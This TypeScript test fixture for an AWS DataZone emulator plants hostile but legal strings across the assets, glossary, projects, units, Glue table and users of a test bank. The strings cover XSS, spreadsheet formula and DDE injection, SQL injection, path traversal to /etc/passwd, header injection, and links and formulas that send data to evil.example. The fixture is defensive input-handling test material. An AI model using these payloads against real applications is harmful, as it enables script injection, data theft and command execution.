import type { Bank } from '#emulator/bank/bank.ts';
import { formOf } from '#emulator/bank/forms.ts';
import { plantHostileGovernance } from '#emulator/bank/hostile-governance.ts';
import type { Asset, AssetForm, Stamp } from '#emulator/bank/types.ts';

/**
 * Text that strangers write and AWS's limits allow. A builder, not part of the sample: tests plant it in a bank and
 * then watch what the product does with it.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  image: '<img src=x onerror="alert(document.domain)">',
  script: '</title></textarea><script>alert(1)</script>',
  markdown: '[click](javascript:alert(1)) ![x](https://evil.example/?q=secret) <iframe src=//evil.example>',
  formula: '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
  command: "+cmd|'/C calc'!A0",
  atFormula: '@SUM(1+1)*cmd',
  minusFormula: '-2+3+cmd',
  tabFormula: '\t=1+1',
  returnFormula: '\r=1+1',
  rightToLeft: 'invoice\u202Efdp.exe',
  isolates: '\u2067customer\u2069 \u2066id\u2069',
  zeroWidth: 'cus\u200Bto\u200Cmer\u2060_id\uFEFF',
  lookalike: 'сustоmer', // Cyrillic letters that look Latin
  loneHigh: 'half a \uD83D',
  loneLow: '\uDE00 the other half',
  nul: 'before\u0000after',
  control: 'bell\u0007 escape\u001B[31mred backspace\b',
  lines: 'first\r\nSet-Cookie: a=b\r\n\r\nsecond\u2028third\u2029',
  marks: `z${'\u0300\u0301\u0302\u0303'.repeat(40)}algo`,
  emoji: '👩‍👩‍👧‍👦'.repeat(30),
  prototype: '__proto__',
  constructor: 'constructor',
  nullWord: 'null',
  blank: '   ',
  quote: `'); DROP TABLE remote_asset; -- "`,
  path: '../../../../etc/passwd',
  template: '${process.env.HOME} {{7*7}} %s %n',
  yaml: '!!js/function "function(){}"\n- &a [*a]',
  json: '"},{"columnName":"injected',
};

/** Ids the patterns allow and code trips over. */
const oddIds: readonly string[] = [
  '-',
  '--help',
  '_',
  '__proto__',
  'constructor',
  'toString',
  'NULL',
  '0',
  '-1',
  '1e3',
  'Z'.repeat(36),
];

/** Names the narrow pattern `[\w -]+` allows. */
const oddNames: readonly string[] = [
  ' ',
  '-',
  '--help',
  '-rf',
  '__proto__',
  'constructor',
  'null',
  '0',
  '  leading and trailing  ',
  'x'.repeat(64),
];

/** The longest content a form may have when it is written, in characters. */
export const FORM_CONTENT_LIMIT = 300_000;

export interface HostilePlanting {
  /** what was planted: asset id by label */
  readonly assets: Readonly<Record<string, string>>;
  readonly termIds: readonly string[];
  readonly projectIds: readonly string[];
  readonly unitIds: readonly string[];
}

const GLUE = 'amazon.datazone.GlueTableAssetType';

const tableForm = (accountId: string, columns: readonly string[], name = 'hostile'): AssetForm =>
  formOf('GlueTableForm', 'amazon.datazone.GlueTableFormType', {
    catalogId: accountId,
    databaseName: 'hostile',
    tableName: name,
    columns: columns.map((columnName) => ({ columnName, dataType: 'string' })),
  });

const commonForm = (readMe: string): AssetForm =>
  formOf('AssetCommonDetailsForm', 'amazon.datazone.AssetCommonDetailsFormType', {
    summary: readMe.slice(0, 200),
    readMe,
  });

const columnForm = (value: object): AssetForm =>
  formOf('ColumnBusinessMetadataForm', 'amazon.datazone.ColumnBusinessMetadataFormType', value);

/** As long a read-me as still fits the limit once it is JSON. */
const longReadMe = (): string => {
  const unit =
    '# Heading\n\n<script>alert(1)</script> **bold** `code` [a](javascript:1) | a | b |\n\n> quoted \u202E text\n\n';
  let readMe = unit.repeat(Math.floor(FORM_CONTENT_LIMIT / unit.length));
  while (JSON.stringify({ summary: readMe.slice(0, 200), readMe }).length > FORM_CONTENT_LIMIT)
    readMe = readMe.slice(0, -1000);
  return readMe;
};

/**
 * Plants hostile but legal entities in a bank, owned by its first project: assets (one per text, odd ids, 2,000
 * columns, the longest read-me, broken column metadata), a glossary with a term per text, odd projects and units, and
 * a Glue table. Throws RangeError for a bank without a project.
 */
export const plantHostile = (bank: Bank): HostilePlanting => {
  const [home] = bank.projects.list();
  if (!home) throw new RangeError('Hostile text needs a project to own it.');
  const at = home.updatedAt;
  const stamp: Stamp = { createdAt: at, createdBy: home.createdBy, updatedAt: at, updatedBy: home.createdBy };
  const assets: Record<string, string> = {};
  const texts = Object.entries(hostileTexts);

  const plant = (
    label: string,
    asset: { id?: string; name: string; description?: string; forms: readonly AssetForm[] },
  ): void => {
    const planted: Asset = bank.assets.append((ordinal, id) => ({
      ordinal,
      id: asset.id ?? id,
      projectId: home.id,
      name: asset.name,
      ...(asset.description === undefined ? {} : { description: asset.description }),
      typeName: GLUE,
      typeRevision: bank.assetTypes.get(GLUE)?.revision ?? '1',
      revision: 1,
      createdAt: at,
      createdBy: home.createdBy,
      firstCreatedAt: at,
      firstCreatedBy: home.createdBy,
      published: false,
      glossaryTerms: [],
      governedTerms: [],
      forms: asset.forms,
      readOnlyForms: [],
      quality: [],
    }));
    assets[label] = planted.id;
  };

  for (const [label, text] of texts) {
    plant(label, {
      name: text,
      description: `${text} ${text}`,
      forms: [
        tableForm(home.accountId, [text, `${text}_2`]),
        columnForm({
          columnsBusinessMetadata: [
            { columnIdentifier: text, name: text, description: text, glossaryTerms: ['nosuchterm0000'] },
          ],
        }),
        commonForm(text),
      ],
    });
    bank.edit.publishAsset(assets[label] ?? '');
  }
  for (const id of oddIds) plant(`id ${id}`, { id, name: `Odd id ${id}`, forms: [tableForm(home.accountId, ['a'])] });
  const wide = Array.from({ length: 2000 }, (_, place) => `column_${place}`);
  plant('wide', { name: 'Two thousand columns', forms: [tableForm(home.accountId, wide)] });
  plant('longest', {
    name: '𝕏'.repeat(256),
    description: 'd'.repeat(2048),
    forms: [tableForm(home.accountId, ['a']), commonForm(longReadMe())],
  });
  plant('twins', { name: 'Twin columns', forms: [tableForm(home.accountId, ['a', 'a', 'A', ''])] });
  // A bare list where an object belongs: a published AWS sample writes it like this (api-surface §5, 8).
  plant('bareList', {
    name: 'Bare list',
    forms: [tableForm(home.accountId, ['a']), columnForm([{ columnIdentifier: 'a', name: 'A' }])],
  });
  plant('strayColumn', {
    name: 'Metadata of a column that is gone',
    forms: [
      tableForm(home.accountId, ['a']),
      columnForm({ columnsBusinessMetadata: [{ columnIdentifier: 'gone', name: 'Gone' }], more: { deep: [null, 1] } }),
    ],
  });
  plant('noForms', { name: 'No forms at all', forms: [] });

  bank.glossaries.put({
    id: 'hostile-glossary_1',
    name: hostileTexts['image'] ?? '',
    description: texts
      .map(([, text]) => text)
      .join('\n')
      .slice(0, 4096),
    owningProjectId: home.id,
    status: 'ENABLED',
    governed: false,
    ...stamp,
  });
  const termIds = texts.map(([label, text], place) => {
    const id = `hostile_term-${place}`;
    bank.terms.put({
      id,
      glossaryId: 'hostile-glossary_1',
      name: text,
      shortDescription: text,
      longDescription: `${label} ${text}`.repeat(20).slice(0, 4000),
      isA: [`hostile_term-${(place + 1) % texts.length}`],
      classifies: [id],
      status: 'ENABLED',
      ...stamp,
    });
    return id;
  });
  const projectIds = oddNames.map((name, place) => {
    const id = oddIds[place] ?? `odd-project-${place}`;
    const text = texts[place]?.[1] ?? '';
    bank.projects.put({ ...home, id, name, description: text.repeat(100).slice(0, 2000) });
    return id;
  });
  const unitIds = oddNames.map((name, place) => {
    const id = place === 0 ? '__proto__' : `-unit_${'z'.repeat(place * 20)}`;
    bank.units.put({
      id,
      parentId: bank.domain.rootDomainUnitId,
      name,
      description: texts[place]?.[1] ?? '',
      owners: [],
      ...stamp,
    });
    return id;
  });
  bank.glue.addTable({
    accountId: home.accountId,
    database: 'hostile <db>',
    name: 'invoice\u202Efdp <img src=x>',
    description: '=1+1\r\n<script>',
    columns: [
      { name: '=cmd|a', type: 'string', comment: '\u202E<b>'.repeat(40) },
      { name: '__proto__', type: `struct<${'a:int,'.repeat(2000)}b:int>` },
    ],
    location: "s3://bucket/'; DROP TABLE x; --/",
    format: 'csv',
    owner: "o'brien",
    createdAt: at,
    updatedAt: at,
    versionId: 0,
    registered: false,
    parameters: { __proto: '1', constructor: '=1+1' },
  });
  const [someone] = bank.users.list();
  if (someone) {
    bank.users.put({
      ...someone,
      id: '00000000-0000-4000-a000-000000000000',
      profileId: '00000000-0000-4000-a000-000000000001',
      userName: '=cmd+calc,A0',
      givenName: '<b>Bobby</b>',
      familyName: '@SUM(1+1)',
      email: '"><script>@anybank.example',
      title: '+1+1',
    });
  }
  plantHostileGovernance(
    bank,
    home,
    assets['image'] ?? '',
    texts.map(([, text]) => text),
  );
  return { assets, termIds, projectIds, unitIds };
};
